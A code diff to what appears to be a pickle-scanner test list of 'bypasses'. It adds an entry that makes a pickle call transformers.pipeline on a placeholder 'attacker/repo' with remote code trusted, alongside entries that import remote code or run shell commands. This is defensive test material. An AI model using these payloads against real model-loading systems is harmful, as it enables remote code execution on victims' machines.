@@ -240,6 +240,30 @@ const BYPASSES: Bypass[] = [
     args: text("payload.Payload", "attacker/repo"),
     why: "downloads and imports remote code",
   },
+  // transformers.pipeline(task, model, …) takes trust_remote_code positionally (after dtype): it downloads the
+  // repository and runs its Python code.
+  {
+    module: "transformers",
+    name: "pipeline",
+    args: (b) =>
+      text(
+        "text-generation",
+        "attacker/repo",
+      )(b)
+        .none()
+        .none()
+        .none()
+        .none()
+        .none()
+        .none()
+        .newTrue()
+        .none()
+        .none()
+        .none()
+        .binunicode("auto")
+        .newTrue(),
+    why: "downloads and runs remote code",
+  },
   // AUTOMATIC1111 and Forge: modules/launch_utils.py run(command) is subprocess.run(command, shell=True); launch.py
   // defines or re-exports run, run_pip, run_python and git_clone. Importable in the WebUI process that loads models.
   { module: "modules.launch_utils", name: "run", args: text("echo harmless"), why: "runs a shell command" },
